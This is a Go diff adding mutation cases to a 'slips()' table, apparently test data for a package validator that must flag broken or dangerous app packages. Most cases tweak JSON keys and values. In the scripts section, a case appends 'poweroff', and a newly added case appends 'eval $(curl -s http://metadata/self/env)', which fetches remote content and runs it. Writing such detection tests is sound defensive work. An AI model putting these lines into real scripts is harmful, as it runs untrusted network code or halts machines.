@@ -62,6 +62,8 @@ func slips() []slip {
 		{cluster, `"start": \{`, `"probe": { "type": "custom", "cmd": "exit 213" }, "start": {`, "exit-code-without-text", false},
 		{cluster, `"(start|stop)": \{`, `"${1}x": {`, "service-definition", false},
 		{cluster, `"mount_point": "/`, `"mount_point": "`, "cluster-value", false},
+		{cluster, `"advanced_actions": \["`, `"advanced_actions": ["x`, "cluster-value", false},
+		{cluster, `"upgrading_policy": "`, `"upgrading_policy": "x`, "cluster-value", false},
 		{cluster, `"filesystem": "`, `"filesystem": "x`, "cluster-value", false},
 		{cluster, `"(services|volume|endpoints)": \{`, `"${1}s": {`, "cluster-key-unknown", false},
 		{cluster, `"role": "([a-z]+)"`, `"role": "$1-replica"`, "role-names unreadable-project", false},
@@ -80,6 +82,7 @@ func slips() []slip {
 		{config, `"required": "(yes|no)"`, `"required": "$1, please"`, "config-property", false},
 		{config, `(?m)([^,{\[])\n(\s*[}\]])`, "$1,\n$2", "json-syntax", false},
 		{config, `\A`, "\ufeff", "byte-order-mark", false},
+		{config, `"(label|required|default)": `, `"${1}x": `, "config-property", false},
 		{config, `"label": "`, `"label": "x`, "translation-missing", false},
 		// translations
 		{zh, `(?m)^\s*"([^"]+)": "`, `"$1x": "`, "translation-missing", false},
@@ -88,6 +91,7 @@ func slips() []slip {
 		// scripts
 		{`rootfs/.*/bin/(app|redis)$`, `mkdir -p "\$DATA/.*"`, `true`, "empty-volume", false},
 		{script, `\z`, "\npoweroff\n", "machine-control", true},
+		{script, `\z`, "\neval $(curl -s http://metadata/self/env)\n", "eval-metadata", true},
 		{script, `\z`, "\nif true; then\n", "shell-syntax", true},
 	}
 }
